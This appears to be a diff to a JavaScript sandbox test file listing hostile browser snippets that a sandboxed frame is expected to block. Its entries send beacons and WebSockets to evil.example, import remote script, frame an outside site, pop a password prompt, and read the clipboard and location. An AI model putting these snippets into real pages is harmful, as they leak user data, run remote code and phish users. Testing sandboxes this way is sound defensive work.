@@ -18,7 +18,8 @@ const attacks = {
     "await new Promise((ok, no) => Object.assign(new WebSocket('wss://evil.example/'), { onopen: ok, onerror: no }))",
   'ask by an image':
     "await new Promise((ok, no) => Object.assign(new Image(), { onload: ok, onerror: no }).src = '/favicon.ico')",
-  'send a beacon': "if (!navigator.sendBeacon('https://evil.example/')) throw 0; throw 0",
+  // Whether it left the frame is seen from outside.
+  'send a beacon': "navigator.sendBeacon('https://evil.example/'); throw 0",
   'load a script':
     "await new Promise((ok, no) => document.head.append(Object.assign(document.createElement('script'), { src: '/_build/x.js', onload: ok, onerror: no })))",
   'import a module': "await import('https://evil.example/x.js')",
@@ -32,12 +33,11 @@ const attacks = {
   'open a database':
     "await new Promise((ok, no) => Object.assign(indexedDB.open('x'), { onsuccess: ok, onerror: no }))",
   'open the cache': "await caches.open('x')",
-  'frame the site':
-    "const f = Object.assign(document.createElement('iframe'), { src: '/' }); document.body.append(f); await new Promise((ok) => setTimeout(ok, 300)); f.contentDocument.title",
+  'frame another site':
+    "const f = Object.assign(document.createElement('iframe'), { src: 'https://evil.example/frame' }); document.body.append(f); await new Promise((ok) => setTimeout(ok, 300)); throw 0",
   'show a dialog': "if (!confirm('Your password?')) throw 0",
   'read the clipboard': 'await navigator.clipboard.readText()',
   'find the place': 'await new Promise((ok, no) => navigator.geolocation.getCurrentPosition(ok, no))',
-  'hold a text of 1 GB': "'x'.repeat(2 ** 30)",
 }
 
 test.describe('a hostile example', () => {
